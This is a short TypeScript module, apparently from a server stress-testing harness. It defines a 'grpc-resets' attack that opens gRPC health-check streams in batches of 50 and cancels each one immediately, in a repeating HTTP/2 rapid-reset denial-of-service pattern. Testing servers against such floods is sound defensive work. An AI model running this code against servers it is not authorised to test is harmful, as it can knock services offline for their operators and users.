import { constants } from 'node:http2';
import { setImmediate } from 'node:timers/promises';
import type { Attack } from '../attack.ts';
import { beginCall, frame, keepGrpcOpen } from '../clients/grpc.ts';
import { keepAttacking } from '../keepAttacking.ts';

const streamsATurn = 50;

/** Streams that are reset as soon as they begin. */
export const grpcResets: Attack = {
  name: 'grpc-resets',
  family: 'sockets',
  bounds: [10],
  summary: 'gRPC calls that are reset at once (rapid reset), without a credential',
  run: async (context) => {
    const connection = keepGrpcOpen(context);
    await keepAttacking(context, 4, async () => {
      const opened = await connection();
      for (let each = 0; each < streamsATurn && !opened.closed && !opened.destroyed; each++) {
        const stream = beginCall(opened, '/grpc.health.v1.Health/Check');
        stream.write(frame(Buffer.alloc(0)));
        stream.close(constants.NGHTTP2_CANCEL);
      }
      await setImmediate();
      return 'reset 50';
    });
  },
};
